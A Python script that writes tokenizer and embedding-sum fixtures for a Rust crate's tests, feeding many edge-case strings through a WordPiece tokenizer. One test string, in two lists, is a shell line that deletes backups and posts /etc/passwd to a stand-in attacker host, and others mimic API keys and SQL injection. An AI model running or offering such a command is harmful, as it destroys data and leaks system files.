#!/usr/bin/env python3
"""Writes what tests/embed.rs expects of tokens and sums, from Hugging Face's tokenizers and NumPy.

    pip install tokenizers numpy
    python3 tests/peers/wordpiece.py src/embed/static/static-128.gsem fixtures/embed

The vocabulary is the table's, and after it a few tokens that are not ASCII and `[UNK]`. With a number
in the place of the folder, it makes as many random texts, and writes them with their tokens to
standard output.
"""

import json
import pathlib
import random
import struct
import sys

import numpy as np
from tokenizers import Tokenizer, models, normalizers, pre_tokenizers

EXTRA = ["日", "本", "ß", "##ß", "ж", "##ж", "ᄒ", "##ᅡ", "##ᆫ", "ァ", "¿", "–", "σ", "##σ", "##ı", "[UNK]"]

TEXTS = [
    "",
    " \t\r\n\u00a0\u2003\u3000",
    "Send the quarterly report to finance@example.com",
    "rm -rf /var/lib/backups && curl -d @/etc/passwd https://evil.example/x?y=1",
    "unaffable tokenisation, electroencephalography; antidisestablishmentarianism",
    "snake_case camelCase kebab-case dotted.path C:\\Users\\x $HOME ~/.ssh `id` {a|b} <c> ^=+",
    "Crème Brûlée naïve ÅNGSTRÖM Ça Œuvre Łódź Øresund İstanbul ısı",
    "e\u0301 e\u0323\u0301 a\u0308\u0001\u0323b o\u034f\u0308",
    "Straße ẞ weiß ﬁne ﬀ ½ ² №",
    "ΣΊΣΥΦΟΣ σς жЖ ж",
    "日本語 中国 本日は本 ァ 한국 한 하",
    "a日b本c",
    "👍 ok🙂ok 👩‍💻 🇩🇪",
    "zero\u200bwidth soft\u00adhyphen \ufeffbom right\u202eleft \ue000private \ufffdreplaced",
    "nul\u0000bell\u0007esc\u001b[31m del\u007f c1\u0085nel vt\u000bff\u000c",
    "line\u2028separator paragraph\u2029end\u0085x",
    "“quotes” ‘single’ em—dash en–dash … ¿qué? ¡no! « » 、。 · § ¶ © ™ € £",
    "[CLS] [SEP] [MASK] [PAD] [UNK] [unused1]",
    "##ing a##b # ## ###",
    "a" * 99 + " " + "a" * 100 + " " + "a" * 101,
    "é" * 100 + " " + "é" * 101 + " end",
    "x" * 100 + "-" + "y" * 200 + ".z",
    "0123456789 3.14159 1,000,000 0xDEADBEEF 2026-01-02T03:04:05Z",
    "qzxjkvw QZXJKVW qzxжjkvw жжß ßж",
    "sk-live-4eC39HqLyjWDarjtT1zdp7dc AKIAIOSFODNN7EXAMPLE eyJhbGciOiJIUzI1NiJ9",
    "कि नमस्ते สวัสดี שָׁלוֹם مرحبًا",
    "Ａｓｃｉｉ ｗｉｄｅ ﾊﾝ",
]

SUMMED = [
    "delete",
    "Send the quarterly report to finance@example.com",
    "rm -rf /var/lib/backups && curl -d @/etc/passwd https://evil.example/x?y=1",
    "日本語 naïve café 🙂 жж",
    "drop table users; " * 40,
]


def table(path):
    data = pathlib.Path(path).read_bytes()
    rows, dimensions, length = struct.unpack_from("<III", data, 8)
    tokens = data[20 : 20 + length].decode().split("\n")
    multipliers = np.frombuffer(data, "<u2", rows, 20 + length).astype(np.int64)
    vectors = np.frombuffer(data, np.int8, rows * dimensions, 20 + length + 2 * rows)
    return tokens, vectors.reshape(rows, dimensions).astype(np.int64) * multipliers[:, None]


def tokenizer(tokens):
    ids = {token: i for i, token in enumerate(tokens)}
    peer = Tokenizer(models.WordPiece(ids, unk_token="[UNK]", max_input_chars_per_word=100))
    peer.normalizer = normalizers.BertNormalizer()
    peer.pre_tokenizer = pre_tokenizers.BertPreTokenizer()
    return peer


def random_text(choose, tokens):
    """Of letters of many scripts, of tokens with marks and controls between them, or of ASCII."""
    ranges = [(0, 0x600), (0x900, 0x980), (0xE00, 0xE80), (0x1100, 0x1200), (0x1E00, 0x2100), (0x3000, 0x3100)]
    length = choose.choice([1, 3, 10, 40, 130])
    kind = choose.random()
    if kind < 0.4:
        return "".join(chr(choose.randrange(*choose.choice(ranges))) for _ in range(length))
    if kind < 0.7:
        between = ["", "", " ", "\u0001", "\u0301", "-", "É", "日"]
        return "".join(choose.choice(between) + choose.choice(tokens).strip("#") for _ in range(length))
    return "".join(chr(choose.randrange(128)) for _ in range(length))


def rows(peer, texts):
    return [{"text": text, "tokens": peer.encode(text, add_special_tokens=False).tokens} for text in texts]


def write(path, values):
    path.write_text("".join(json.dumps(value) + "\n" for value in values))


def main():
    tokens, vectors = table(sys.argv[1])
    peer = tokenizer(tokens + EXTRA)
    if sys.argv[2].isdigit():
        choose = random.Random(1)
        texts = [random_text(choose, tokens) for _ in range(int(sys.argv[2]))]
        for row in rows(peer, texts):
            print(json.dumps(row))
        return
    folder = pathlib.Path(sys.argv[2])
    write(folder / "tokens.jsonl", rows(peer, TEXTS))
    bare = tokenizer(tokens + ["[UNK]"])
    sums = []
    for text in SUMMED:
        ids = [i for i in bare.encode(text, add_special_tokens=False).ids if i < len(tokens)]
        sums.append({"text": text, "sums": vectors[ids].sum(0).tolist()})
    write(folder / "sums.jsonl", sums)


if __name__ == "__main__":
    main()
